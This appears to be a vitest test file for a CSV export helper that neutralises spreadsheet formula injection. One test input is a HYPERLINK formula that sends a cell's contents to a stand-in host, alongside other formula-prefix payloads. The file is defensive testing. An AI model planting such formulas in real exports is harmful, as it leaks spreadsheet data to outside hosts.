import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

/** The cells of CSV text as a spreadsheet would read them (BOM dropped). */
function cells(csv: string): string[][] {
  return Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data;
}

describe('toCsv', () => {
  it('neutralises every formula prefix so a spreadsheet shows text', () => {
    const dangerous = [
      '=HYPERLINK("http://x/?"&A1,"S")',
      '+1+1',
      '-1+1',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ];
    const parsed = cells(
      toCsv(
        ['Name'],
        dangerous.map((name) => [name]),
      ),
    );
    expect(parsed.slice(1).map((row) => row[0])).toEqual(dangerous.map((name) => `'${name}`));
  });

  it('leaves ordinary cells as they are, accents and quotes included', () => {
    const csv = toCsv(['Name', 'E-mail'], [['José "Pepe" Núñez', 'jose@x.sg']]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(cells(csv)).toEqual([
      ['Name', 'E-mail'],
      ['José "Pepe" Núñez', 'jose@x.sg'],
    ]);
  });
});
